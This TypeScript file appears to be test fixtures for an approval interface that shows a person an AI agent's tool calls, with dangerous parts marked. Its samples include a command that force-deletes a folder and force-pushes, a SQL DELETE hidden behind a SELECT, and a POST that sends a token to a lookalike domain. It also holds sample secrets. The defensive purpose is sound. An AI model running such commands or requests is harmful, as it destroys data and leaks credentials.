import type { ArgumentView, CallPromptView, FileView, Piece } from '#shared/models/prompt';
import { dangerCall, textArgument, writeCall } from './prompt-samples';

/** Stretches from `look‹text›` and plain text; `danger` takes the next of `whys`. */
function drawn(marked: string, whys: readonly string[] = []): { text: string; pieces: Piece[] } {
  let why = 0;
  const pieces = [...marked.matchAll(/(\w+)‹([^›]*)›|[^‹]+?(?=\w+‹|$)/g)].map((match): Piece => {
    const [whole, look, text] = match;
    if (look === undefined || text === undefined) return { text: whole, look: 'plain', why: null };
    return { text, look: look as Piece['look'], why: look === 'danger' ? (whys[why++] ?? null) : null };
  });
  return { text: pieces.map(({ text }) => text).join(''), pieces };
}

function row(name: string, marked: string, rest: Partial<ArgumentView> = {}, whys: readonly string[] = []): ArgumentView {
  const { text, pieces } = drawn(marked, whys);
  return { ...textArgument(name, text), pieces, ...rest };
}

const confinement = { words: 'It can use the network and read and change your files. It cannot reach your screen, your keys and credentials, AI apps’ settings or Countersign itself.', holds: true };
const askedAt = Date.UTC(2026, 10, 21, 14, 3);
const line = (sign: FileView['lines'][number]['sign'], before: number | null, after: number | null, text: string): FileView['lines'][number] => ({ sign, before, after, text });

const taxDiff: FileView = {
  path: '/home/ana/projects/shop/src/checkout/tax.ts',
  how: 'change',
  why: null,
  added: 4,
  removed: 2,
  lines: [
    line('~', null, null, ''),
    line(' ', 11, 11, '/** Tax due on an order, in cents. */'),
    line(' ', 12, 12, 'export function taxOn(order: Order): number {'),
    line('-', 13, null, '  const rate = rates[order.country] ?? 0;'),
    line('-', 14, null, '  return Math.round(order.lines.reduce((sum, line) => sum + line.cents, 0) * rate);'),
    line('+', null, 13, '  const rate = rates[order.country];'),
    line('+', null, 14, '  if (rate === undefined) throw new UnknownCountry(order.country);'),
    line('+', null, 15, '  const net = order.lines.reduce((sum, one) => sum + one.cents * one.count, 0);'),
    line('+', null, 16, '  return Math.round(net * rate);'),
    line(' ', 15, 17, '}'),
    line(' ', 16, 18, ''),
    line('~', null, null, ''),
    line(' ', 204, 206, 'export default taxOn;'),
  ],
  cut: false,
  shows: ['edits'],
};

/** A file is changed, and its lines are shown. */
export const diffCall: CallPromptView = {
  ...writeCall,
  id: 'p-diff',
  askedAt,
  tool: 'edit_file',
  sentence: 'Change 1 file in ~/projects/shop/src/checkout',
  arguments: [
    row('path', '/home/ana/projects/shop/src/checkout/name‹tax.ts›', { is: 'path' }),
    { name: 'edits', kind: 'list', text: '[\n  {\n    "oldText": "  const rate = rates[order.country] ?? 0;",\n    "newText": "  const rate = rates[order.country];"\n  }\n]', length: 132, cut: false, is: 'json', change: { how: 'changed', before: '[ { "oldText": "cents", "newText": "amount" } ]' } },
  ],
  files: [taxDiff],
  since: { at: askedAt - 4 * 60_000, gone: [] },
  confinement,
};

/** A file is made, with a secret in it; another cannot be compared; one would stay as it is. */
export const newFileCall: CallPromptView = {
  ...writeCall,
  id: 'p-new-file',
  askedAt,
  tool: 'write_files',
  sentence: 'Write 3 files in ~/projects/shop',
  arguments: [{ name: 'files', kind: 'list', text: '[\n  {\n    "path": ".env.local",\n    "content": "PORT=8080\\n"\n  }\n]', length: 74, cut: false, is: 'json' }],
  files: [
    {
      path: '/home/ana/projects/shop/.env.local',
      how: 'create',
      why: null,
      added: 3,
      removed: 0,
      lines: [line('+', null, 1, 'PORT=8080'), { ...line('+', null, 2, 'STRIPE_SECRET_KEY=sk_test_4eC39HqLyjWDarjtT1zdp7dc'), pieces: drawn('STRIPE_SECRET_KEY=secret‹sk_test_4eC39HqLyjWDarjtT1zdp7dc›').pieces }, line('+', null, 3, 'LOG=debug⟦no line break at the end⟧')],
      cut: false,
      shows: [],
    },
    { path: '/home/ana/projects/shop/assets/logo.png', how: 'unread', why: 'It is no text', added: 0, removed: 0, lines: [], cut: false, shows: [] },
    { path: '/home/ana/projects/shop/README.md', how: 'same', why: null, added: 0, removed: 0, lines: [], cut: false, shows: [] },
  ],
  confinement,
};

/** A command with two dangerous parts and a secret, which differs from the last one; nothing holds the server. */
export const commandCall: CallPromptView = {
  ...dangerCall,
  id: 'p-command',
  askedAt,
  sentence: 'Run 4 programs in ~/projects/shop/src',
  arguments: [
    row('command', 'program‹cd› /srv/shop operator‹&&› danger‹rm -rf ./build› operator‹&&› name‹TOKEN›=secret‹ghp_0123456789abcdefghijABCDEFGHIJ012345› program‹gh› release create v2 operator‹&&› danger‹git push --force origin main› comment‹# as agreed›', { is: 'command', change: { how: 'changed', before: 'npm run build' } }, ['Deletes whole folders, which cannot be undone', 'Overwrites what others pushed']),
    row('cwd', '/home/ana/projects/shop/name‹src›', { is: 'path' }),
    { name: 'timeout', kind: 'number', text: '600000', length: 6, cut: false, change: { how: 'new', before: '' } },
  ],
  since: { at: askedAt - 26 * 3_600_000, gone: ['shell', 'login'] },
  confinement: { words: 'It can do everything you can: read and change all your files, use the network, and answer Countersign’s own questions.', holds: false },
};

/** A statement with one that deletes behind one that reads. */
export const sqlCall: CallPromptView = {
  ...dangerCall,
  id: 'p-sql',
  server: 'postgres',
  tool: 'query',
  sentence: 'Run 2 SQL statements, one of which deletes every row of orders',
  because: ['No rule covers this call', 'Deletes every row of a table (sql)', 'Hides a dangerous statement behind one that only reads (sql)'],
  evidence: [{ words: 'Deletes every row of a table (sql)', at: 'sql', notable: false }, { words: 'Hides a dangerous statement behind one that only reads (sql)', at: 'sql', notable: false }],
  arguments: [row('sql', "keyword‹SELECT› id, total keyword‹FROM› orders\nkeyword‹WHERE› country keyword‹=› string‹'DE'› keyword‹AND› total operator‹>› number‹100›;\ncomment‹-- tidy up afterwards›\ndanger‹DELETE FROM orders›;", { is: 'sql' }, ['Deletes every row of a table'])],
  serverSays: 'Runs a read-only SQL query.',
  confinement,
};

/** An address whose letters are not what they look like, with a secret in its query. */
export const urlCall: CallPromptView = {
  ...dangerCall,
  id: 'p-url',
  server: 'fetch',
  tool: 'http_request',
  sentence: 'Send 2 KB to xn--pple-43d.com',
  because: ['No rule covers this call', 'A name written in letters that may look like others (url)'],
  evidence: [{ words: 'A name written in letters that may look like others (url)', at: 'url', notable: false }],
  arguments: [
    row('url', 'option‹https://›login.danger‹ana@›domain‹аpple.com›number‹:8443›/session?name‹user›=string‹ana›&name‹token›=secret‹a8s7d6f5a8s7d6f5›', { is: 'url', warning: '“аpple.com” is really “xn--pple-43d.com”, looks like “apple.com”, and mixes Latin and Cyrillic letters' }, ['A name or password for the server; the address leads to xn--pple-43d.com']),
    row('method', 'POST'),
    row('mirror', 'option‹https://›docs.shop.domain‹example.co.uk›/a/b/c', { is: 'url' }),
  ],
  serverSays: 'Fetches a page.',
  confinement,
};

const jsonText = '{\n  "title": "Tax is wrong",\n  "labels": [\n    "bug",\n    "billing"\n  ],\n  "assignee": {\n    "login": "ana",\n    "id": 12345678901234567890\n  },\n  "draft": false,\n  "api_key": "Zx81-kq0_77abcdef",\n  "milestone": null\n}';
const jsonPieces = drawn(jsonText.replaceAll(/"([a-z_]+)":/g, 'name‹"$1"›:').replaceAll(/: ("[^"]*")/g, ': string‹$1›').replace('string‹"Zx81-kq0_77abcdef"›', 'string‹"›secret‹Zx81-kq0_77abcdef›string‹"›').replace('12345678901234567890', 'number‹12345678901234567890›').replaceAll(/\b(false|null)\b/g, 'keyword‹$1›')).pieces;

/** An object as a tree, and a list too long to be shown whole. */
export const jsonCall: CallPromptView = {
  ...writeCall,
  id: 'p-json',
  askedAt,
  server: 'github',
  tool: 'create_issue',
  sentence: 'Create an issue in acme/shop',
  evidence: [{ words: 'Makes something others see', at: null, notable: false }],
  because: ['No rule covers this call', 'Makes something others see'],
  arguments: [
    row('repo', 'acme/shop'),
    { name: 'issue', kind: 'object', text: jsonText, length: jsonText.length, cut: false, is: 'json', pieces: jsonPieces },
    { name: 'rows', kind: 'list', text: `[\n${'  {\n    "id": 4711,\n    "lines": [\n      1,\n      2\n    ]\n  },\n'.repeat(40)}`.slice(0, 2000), length: 184_180, cut: true, is: 'json' },
  ],
  needsFullView: true,
  since: { at: askedAt - 40_000, gone: [] },
  serverSays: null,
  confinement,
};

/** The same arguments as the last time. */
export const sameCall: CallPromptView = { ...writeCall, id: 'p-same', askedAt, tool: 'append_note', sentence: 'Add a line to a note', arguments: [row('note', 'shopping'), row('line', 'Milk')], evidence: [], because: ['No rule covers this call'], since: { at: askedAt - 90_000, gone: [] }, serverSays: null, confinement };
